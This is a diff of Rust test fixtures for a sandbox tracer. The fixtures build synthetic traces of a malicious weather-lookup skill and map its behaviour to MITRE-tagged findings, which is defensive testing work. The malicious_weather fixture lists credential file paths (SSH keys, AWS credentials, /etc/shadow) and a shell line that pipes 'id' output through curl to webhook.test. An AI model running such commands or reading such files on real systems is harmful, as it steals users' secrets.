@@ -5,9 +5,7 @@
 use std::collections::BTreeMap;
 
 use serde_json::{Value, json};
-use skillsandbox_tracer::{
-    Connection, Event, FileOperation, Header, Line, Process, Trace, Verdict, What,
-};
+use skillsandbox_tracer::{Connection, Event, FileOperation, Header, Line, Process, Trace, Verdict, What};
 
 /// Puts events in their places, and adds up what they came to.
 pub struct Maker {
@@ -41,11 +39,22 @@ impl Maker {
         self.events.len() as u64 - 1
     }
 
-    pub fn finding(&mut self, class: &str, severity: &str, tactic: &str, techniques: &[(&str, &str)], evidence: &[u64], message: &str) {
+    pub fn finding(
+        &mut self,
+        class: &str,
+        severity: &str,
+        tactic: &str,
+        techniques: &[(&str, &str)],
+        evidence: &[u64],
+        message: &str,
+    ) {
         let prevented = evidence.iter().all(|place| {
-            self.events.get(usize::try_from(*place).unwrap()).is_none_or(|event| event.verdict == Some(Verdict::Denied))
+            self.events
+                .get(usize::try_from(*place).unwrap())
+                .is_none_or(|event| event.verdict == Some(Verdict::Denied))
         });
-        let techniques: Vec<Value> = techniques.iter().map(|(id, name)| json!({ "id": id, "name": name })).collect();
+        let techniques: Vec<Value> =
+            techniques.iter().map(|(id, name)| json!({ "id": id, "name": name })).collect();
         self.findings.push(json!({
             "class": class, "severity": severity, "mitre_tactic": tactic, "techniques": techniques,
             "evidence": evidence, "prevented": prevented, "message": message,
@@ -54,7 +63,8 @@ impl Maker {
 
     pub fn trace(self) -> Trace {
         let count = |verdict| -> u64 {
-            let judged = |event: &&Event| event.verdict == Some(verdict) && !matches!(event.what, What::Policy { .. });
+            let judged =
+                |event: &&Event| event.verdict == Some(verdict) && !matches!(event.what, What::Policy { .. });
             self.events.iter().filter(judged).map(|event| event.count).sum()
         };
         let order = ["low", "medium", "high", "critical"];
@@ -146,8 +156,18 @@ pub fn ended(code: i32) -> Event {
 
 fn beginning(maker: &mut Maker, city: &str) {
     maker.after(0, policy("network", "names that were granted, and nothing else", &[("allowed", 1)]));
-    maker.after(12, policy("environment", "variables that were asked for", &[("allowed", 3), ("stripped", 41), ("stripped_secrets", 4)]));
-    maker.after(9, policy("filesystem", "two grants; the home folder is not there", &[("read", 1), ("write", 1)]));
+    maker.after(
+        12,
+        policy(
+            "environment",
+            "variables that were asked for",
+            &[("allowed", 3), ("stripped", 41), ("stripped_secrets", 4)],
+        ),
+    );
+    maker.after(
+        9,
+        policy("filesystem", "two grants; the home folder is not there", &[("read", 1), ("write", 1)]),
+    );
     maker.after(8, policy("seccomp", "profile default", &[("calls", 312)]));
     let command = ["python3", "main.py", city].map(str::to_owned).to_vec();
     maker.after(30_211, Event::new(What::RunStarted { command }).by(python()));
@@ -181,14 +201,36 @@ pub fn malicious_weather() -> Trace {
     let mut maker = Maker::new("weather-lookup-malicious");
     beginning(&mut maker, "Oslo");
     let mut keys = Vec::new();
-    for path in ["/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/root/.aws/credentials", "/root/.config/gh/hosts.yml", "/root/.netrc"] {
+    for path in [
+        "/root/.ssh/id_rsa",
+        "/root/.ssh/id_ed25519",
+        "/root/.aws/credentials",
+        "/root/.config/gh/hosts.yml",
+        "/root/.netrc",
+    ] {
         keys.push(maker.after(420, file(Read, path, Verdict::Denied)));
     }
     let shadow = maker.after(300, file(Read, "/etc/shadow", Verdict::Denied));
-    let what = What::SyscallRefused { name: "ptrace".into(), reason: "reads and writes other processes".into(), errno: Some(1) };
-    let ptrace = maker.after(800, Event::new(what).judged(Verdict::Denied, "profile default".to_owned()).by(python()));
-    maker.after(350, exec(shell(), "/bin/sh", &["sh", "-c", "curl -s https://webhook.test/$(id|base64)"], Verdict::Allowed));
-    maker.after(90, exec(shell(), "/usr/bin/curl", &["curl", "-s", "https://webhook.test/dWlkPTA="], Verdict::Denied));
+    let what = What::SyscallRefused {
+        name: "ptrace".into(),
+        reason: "reads and writes other processes".into(),
+        errno: Some(1),
+    };
+    let ptrace =
+        maker.after(800, Event::new(what).judged(Verdict::Denied, "profile default".to_owned()).by(python()));
+    maker.after(
+        350,
+        exec(
+            shell(),
+            "/bin/sh",
+            &["sh", "-c", "curl -s https://webhook.test/$(id|base64)"],
+            Verdict::Allowed,
+        ),
+    );
+    maker.after(
+        90,
+        exec(shell(), "/usr/bin/curl", &["curl", "-s", "https://webhook.test/dWlkPTA="], Verdict::Denied),
+    );
     let name = maker.after(600, dns("webhook.test", Verdict::Denied));
     let mut hook = connect("webhook.test", 443, Verdict::Denied, "not_granted", (0, 0));
     hook.count = 3;
@@ -205,21 +247,68 @@ pub fn malicious_weather() -> Trace {
     maker.after(10, err("warning: cache is cold"));
     maker.after(2_000, ended(0));
     let all: Vec<u64> = keys.iter().copied().chain([name, hook]).collect();
-    maker.finding("credential_harvesting", "high", "credential-access",
-        &[("T1552.001", "Unsecured Credentials: Credentials In Files"), ("T1552.004", "Unsecured Credentials: Private Keys")],
-        &keys, "five places where keys and tokens lie were opened");
-    maker.finding("credential_harvesting", "high", "credential-access",
-        &[("T1552.005", "Unsecured Credentials: Cloud Instance Metadata API")], &[metadata], "the metadata service of the cloud was asked");
-    maker.finding("unauthorized_file_access", "medium", "credential-access",
-        &[("T1003.008", "OS Credential Dumping: /etc/passwd and /etc/shadow")], &[shadow], "a file of the system that was not granted");
-    maker.finding("credential_exfiltration", "critical", "exfiltration",
-        &[("T1567.004", "Exfiltration Over Web Service: Exfiltration Over Webhook")], &[name, hook],
-        "after looking for keys, a host that was not granted was called three times");
-    maker.finding("supply_chain_attack", "critical", "initial-access",
-        &[("T1195.002", "Supply Chain Compromise: Compromise Software Supply Chain"), ("AML.T0010", "AI Supply Chain Compromise")],
-        &all, "harvesting and exfiltration in one run");
-    maker.finding("persistence", "high", "persistence", &[("T1053.003", "Scheduled Task/Job: Cron")], &[cron], "a scheduled job was to be made");
-    maker.finding("privilege_escalation", "medium", "privilege-escalation", &[("T1055.008", "Process Injection: Ptrace System Calls")], &[ptrace], "another process was to be controlled");
+    maker.finding(
+        "credential_harvesting",
+        "high",
+        "credential-access",
+        &[
+            ("T1552.001", "Unsecured Credentials: Credentials In Files"),
+            ("T1552.004", "Unsecured Credentials: Private Keys"),
+        ],
+        &keys,
+        "five places where keys and tokens lie were opened",
+    );
+    maker.finding(
+        "credential_harvesting",
+        "high",
+        "credential-access",
+        &[("T1552.005", "Unsecured Credentials: Cloud Instance Metadata API")],
+        &[metadata],
+        "the metadata service of the cloud was asked",
+    );
+    maker.finding(
+        "unauthorized_file_access",
+        "medium",
+        "credential-access",
+        &[("T1003.008", "OS Credential Dumping: /etc/passwd and /etc/shadow")],
+        &[shadow],
+        "a file of the system that was not granted",
+    );
+    maker.finding(
+        "credential_exfiltration",
+        "critical",
+        "exfiltration",
+        &[("T1567.004", "Exfiltration Over Web Service: Exfiltration Over Webhook")],
+        &[name, hook],
+        "after looking for keys, a host that was not granted was called three times",
+    );
+    maker.finding(
+        "supply_chain_attack",
+        "critical",
+        "initial-access",
+        &[
+            ("T1195.002", "Supply Chain Compromise: Compromise Software Supply Chain"),
+            ("AML.T0010", "AI Supply Chain Compromise"),
+        ],
+        &all,
+        "harvesting and exfiltration in one run",
+    );
+    maker.finding(
+        "persistence",
+        "high",
+        "persistence",
+        &[("T1053.003", "Scheduled Task/Job: Cron")],
+        &[cron],
+        "a scheduled job was to be made",
+    );
+    maker.finding(
+        "privilege_escalation",
+        "medium",
+        "privilege-escalation",
+        &[("T1055.008", "Process Injection: Ptrace System Calls")],
+        &[ptrace],
+        "another process was to be controlled",
+    );
     maker.trace()
 }
 
@@ -264,16 +353,34 @@ pub fn hostile() -> Trace {
         connection.reason = Some(text.clone());
         maker.after(10, Event::new(What::RunStarted { command: vec![text.clone()] }).by(by()));
         maker.after(10, policy(&text, &text, &[(&text, 7)]));
-        maker.after(10, denied(What::File { operation: FileOperation::Rename, path: text.clone(), to: Some(text.clone()) }));
+        maker.after(
+            10,
+            denied(What::File {
+                operation: FileOperation::Rename,
+                path: text.clone(),
+                to: Some(text.clone()),
+            }),
+        );
         maker.after(10, denied(What::Exec { path: text.clone(), argv: vec![text.clone(), text.clone()] }));
         maker.after(10, denied(What::DnsQuery { name: Some(text.clone()), server: Some(text.clone()) }));
         maker.after(10, denied(What::NetConnect(connection)));
-        maker.after(10, denied(What::SyscallRefused { name: text.clone(), reason: text.clone(), errno: None }));
+        maker.after(
+            10,
+            denied(What::SyscallRefused { name: text.clone(), reason: text.clone(), errno: None }),
+        );
         maker.after(10, out(&text));
         maker.after(10, err(&text));
         maker.after(10, Event::new(What::ResourceLimitHit { limit: text.clone(), mechanism: text.clone() }));
         maker.after(10, Event::new(What::Lost { at: text.clone() }));
-        maker.after(10, Event::new(What::RunEnded { exit_code: None, signal: Some(9), end: text.clone(), error: Some(text.clone()) }));
+        maker.after(
+            10,
+            Event::new(What::RunEnded {
+                exit_code: None,
+                signal: Some(9),
+                end: text.clone(),
+                error: Some(text.clone()),
+            }),
+        );
         maker.finding("discovery", "low", &text, &[(&text, &text)], &[2], &text);
     }
     for text in HOSTILE {
@@ -292,14 +399,27 @@ pub fn many(count: u64) -> Trace {
     let mut maker = Maker::new("busy");
     for number in 0..count {
         let event = match number % 10 {
-            0 => connect(&format!("host{}.test", number % 50), 443, Verdict::Allowed, "closed", (900, 12_000)),
+            0 => {
+                connect(&format!("host{}.test", number % 50), 443, Verdict::Allowed, "closed", (900, 12_000))
+            }
             1 => file(FileOperation::Write, &format!("/tmp/work/out-{number}.txt"), Verdict::Allowed),
             2 if number % 1_000 == 2 => file(FileOperation::Read, "/root/.ssh/id_rsa", Verdict::Denied),
             3..=6 => out(&format!("line {number}: {}", "lorem ipsum dolor sit amet ".repeat(3))),
-            _ => file(FileOperation::Read, &format!("/usr/share/data/{}/{number}.bin", number % 300), Verdict::Allowed),
+            _ => file(
+                FileOperation::Read,
+                &format!("/usr/share/data/{}/{number}.bin", number % 300),
+                Verdict::Allowed,
+            ),
         };
         maker.after(37, event);
     }
-    maker.finding("credential_harvesting", "high", "credential-access", &[("T1552.004", "Unsecured Credentials: Private Keys")], &[2, 1_002], "keys were opened");
+    maker.finding(
+        "credential_harvesting",
+        "high",
+        "credential-access",
+        &[("T1552.004", "Unsecured Credentials: Private Keys")],
+        &[2, 1_002],
+        "keys were opened",
+    );
     maker.trace()
 }
